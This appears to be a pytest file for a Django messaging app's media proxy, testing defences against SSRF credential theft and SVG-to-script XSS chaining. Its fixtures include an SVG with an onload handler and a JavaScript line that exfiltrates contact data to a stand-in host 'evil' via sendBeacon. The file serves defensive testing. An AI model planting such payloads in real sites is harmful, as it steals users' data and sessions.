"""The media proxy as an attacker sees it (issue 13, item 1): an agent of the organization who wants
the organization's Twilio credentials or a script running as the owner, and a customer who sends
hostile files. A listener records everything it receives."""

from __future__ import annotations

import pytest

from crm import services as crm_services
from messaging.models import Direction, Message, MessageStatus
from messaging.services import conversations
from tenants.scoping import tenant_scope
from tests.fakes.listener import Listener
from tests.messaging.conftest import our_number, twilio_posts  # noqa: F401 (fixtures)
from tests.vendor_fixtures import ACME_SID, ACME_TOKEN

SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<script href="/o/acme/media/SECOND/0/"/></svg>')
SCRIPT = b"fetch('/api/acme/contacts').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"


@pytest.fixture
def listener(settings):
    """The attacker's server; 127.0.0.2 passes for a public host, so only our own checks stand in
    the way of the server calling it."""
    server = Listener("127.0.0.2")
    settings.SAFE_FETCH_ALLOWED_NETWORKS = ["127.0.0.2/32"]
    yield server
    server.stop()


def _conversation(org, number):
    with tenant_scope(org):
        contact = crm_services.contact_for(organization=org, phone="+14155550199")
        return conversations.conversation_for(organization=org, contact=contact, channel="sms", phone_number=number)


@pytest.mark.django_db
def test_an_agent_cannot_make_the_server_send_the_credentials_to_a_listener(agent_client, owner_client, org,
                                                                            our_number, twilio):  # noqa: F811
    """The issue's reproduction: mediaUrls on a listener, then the media view. The API refuses the
    URL; a row stored anyway (before URLs were checked) is not fetched by the view."""
    private = Listener("127.0.0.1")
    try:
        conversation = _conversation(org, our_number)
        url = private.serve("/x.png", b"\x89PNG", "image/png")
        refused = agent_client.post(f"/api/acme/conversations/{conversation.pk}/messages",
                                    {"body": "x", "mediaUrls": [url]}, content_type="application/json")
        assert refused.status_code == 400
        assert "https://" in refused.json()["mediaUrls"][0]
        with tenant_scope(org):
            assert not Message.objects.filter(direction=Direction.OUTBOUND).exists()
            legacy = Message.objects.create(organization=org, conversation=conversation,
                                            direction=Direction.OUTBOUND, channel="mms", media=[{"url": url}],
                                            media_type="image", status=MessageStatus.SENT)
        assert owner_client.get(f"/o/acme/media/{legacy.pk}/0/").status_code == 404
        assert private.seen == []
    finally:
        private.stop()


@pytest.mark.django_db
def test_two_proxied_urls_cannot_chain_into_a_script_that_runs_as_the_owner(agent_client, owner_client, org,
                                                                            our_number, twilio,  # noqa: F811
                                                                            twilio_posts, listener):  # noqa: F811
    """An SVG from our origin that loads a second proxied URL as its script would run with the
    owner's session. Agents cannot put such URLs behind the proxy (outbound is never proxied), and a
    customer who sends them gets two opaque, sandboxed downloads: no SVG or script type inline,
    nosniff so no <script src> accepts them."""
    conversation = _conversation(org, our_number)
    svg_url, script_url = listener.serve("/a.svg", SVG, "image/svg+xml"), listener.serve("/b.js", SCRIPT,
                                                                                        "text/javascript")
    with tenant_scope(org):
        planted = [Message.objects.create(organization=org, conversation=conversation, direction=Direction.OUTBOUND,
                                          channel="mms", media=[{"url": u, "content_type": t}], media_type="image",
                                          status=MessageStatus.SENT)
                   for u, t in ((svg_url, "image/svg+xml"), (script_url, "text/javascript"))]
    for message in planted:
        assert owner_client.get(f"/o/acme/media/{message.pk}/0/").status_code == 404
    assert listener.seen == []
    # The same two files sent by a customer, at Twilio.
    for body, content_type in ((SVG, "image/svg+xml"), (SCRIPT, "text/javascript")):
        media_url = twilio.add_media(ACME_SID, body, content_type)
        response, params = twilio_posts.inbound(ACME_TOKEN, body="", media=[(media_url, content_type)])
        with tenant_scope(org):
            inbound = Message.objects.get(provider_sid=params["MessageSid"])
        served = owner_client.get(f"/o/acme/media/{inbound.pk}/0/")
        assert served.status_code == 200
        assert served["Content-Type"] == "application/octet-stream"
        assert served["Content-Disposition"].startswith("attachment")
        assert served["X-Content-Type-Options"] == "nosniff"
        assert served["Content-Security-Policy"] == "sandbox; default-src 'none'"
